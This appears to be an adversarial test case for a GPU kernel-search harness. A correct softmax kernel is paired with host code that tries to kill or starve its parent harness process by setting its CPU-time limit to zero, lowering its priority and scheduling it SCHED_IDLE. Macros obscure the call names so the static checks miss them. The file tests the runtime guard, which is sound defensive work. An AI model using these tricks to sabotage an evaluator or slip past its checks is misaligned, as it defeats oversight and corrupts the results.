// Abuse (issue 19, item 3), the host-side calls of tests/adversarial/c/other_processes.c: a
// correct softmax whose host code first sets the CPU-time limit of ksearch (its process's
// parent: GPU candidates run inside the harness) to 0, which kills it, lowers its priority and
// schedules it SCHED_IDLE. It aims at getppid() only, never at other pids. The import check does
// not refuse these calls today; ksearch's guard on the harness (a seccomp filter, crates/eval
// supervisor.rs) makes each fail with EPERM.
// Expected: passed on what it computes, every call logged as refused, and ksearch finishes
// (before the guard: no record, ksearch killed by SIGKILL).
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>
#include <cuda_runtime.h>
// Hides names from the static checks (regular expressions), so the runtime defence is tested.
#define CALL(f, ...) f(__VA_ARGS__)
#define J(a, b) a##b
/* Logs on stderr (the static checks refuse the plain names of output). */
#define SAY(...) J(fpr, intf)(J(std, err), __VA_ARGS__)
#define IDLE_POLICY 5  // SCHED_IDLE
static void said(const char* what, int pid, int r) {
    SAY("%s(%d) %s (%s)\n", what, pid, r < 0 ? "refused" : "reached",
            r < 0 ? strerror(errno) : "");
}
// The honest kernel: one block of 256 threads per row (max, sum of exp, quotient).
__global__ void softmax_rows(const float* x, float* y, int64_t N) {
    __shared__ float red[256];
    const float* row = x + blockIdx.x * N;
    float* out = y + blockIdx.x * N;
    float m = -INFINITY;
    for (int64_t j = threadIdx.x; j < N; j += blockDim.x) m = fmaxf(m, row[j]);
    red[threadIdx.x] = m; __syncthreads();
    for (int s = 128; s > 0; s /= 2) {
        if (threadIdx.x < s) red[threadIdx.x] = fmaxf(red[threadIdx.x], red[threadIdx.x + s]);
        __syncthreads();
    }
    m = red[0]; __syncthreads();
    float sum = 0.0f;
    for (int64_t j = threadIdx.x; j < N; j += blockDim.x) sum += expf(row[j] - m);
    red[threadIdx.x] = sum; __syncthreads();
    for (int s = 128; s > 0; s /= 2) {
        if (threadIdx.x < s) red[threadIdx.x] += red[threadIdx.x + s];
        __syncthreads();
    }
    float inv = 1.0f / red[0];
    for (int64_t j = threadIdx.x; j < N; j += blockDim.x) out[j] = expf(row[j] - m) * inv;
}
extern "C" void softmax(const float* x, float* y, int64_t M, int64_t N) {
    static int once;
    if (!once++) {
        int ksearch = (int)getppid();
        struct rlimit zero = {0, 0};
        said("prlimit", ksearch, CALL(J(prli, mit), ksearch, RLIMIT_CPU, &zero, nullptr));
        said("setpriority", ksearch, CALL(J(setprio, rity), PRIO_PROCESS, ksearch, 19));
        struct sched_param p = {0};
        said("sched_setscheduler", ksearch,
             CALL(J(sched_set, scheduler), ksearch, IDLE_POLICY, &p));
    }
    softmax_rows<<<(unsigned)M, 256>>>(x, y, N);
}
